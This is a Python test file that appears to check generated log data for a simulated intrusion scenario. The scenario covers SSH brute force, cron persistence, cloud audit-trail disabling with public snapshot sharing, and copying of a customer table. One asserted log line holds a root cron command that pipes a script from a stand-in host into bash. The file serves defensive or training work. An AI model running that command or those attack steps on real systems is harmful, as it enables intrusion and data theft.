from __future__ import annotations


def test_many_wrong_passwords_come_before_the_right_one(small):
    text = small.text("linux/jump1/var/log/auth.log*")
    assert text.count("Failed password for deploy from 203.0.113.66") == 80
    assert text.count("Accepted password for deploy from 203.0.113.66") == 1


def test_the_job_is_written_once_and_runs_every_hour(small):
    assert "/etc/cron.d/sysupdate" in small.text("linux/jump1/var/log/auth.log*")
    text = small.text("linux/jump1/var/log/syslog*")
    assert text.count("(root) CMD (curl -fsSL http://telemetry-edge.example/u.sh | bash)") == 5


def test_the_stolen_key_stops_the_trail_and_shares_a_snapshot(small):
    calls = [r for r in small.trail() if r["sourceIPAddress"] == "203.0.113.66"]
    names = [record["eventName"] for record in calls]
    assert names.index("StopLogging") < names.index("ModifySnapshotAttribute")
    shared = calls[-1]["requestParameters"]["createVolumePermission"]
    assert shared == {"add": {"items": [{"group": "all"}]}}


def test_whole_tables_are_copied_out_without_a_row_being_counted(small):
    text = small.text("linux/db1/var/log/postgresql/*.csv")
    assert "COPY public.customers TO STDOUT WITH (FORMAT csv),<not logged>,0" in text
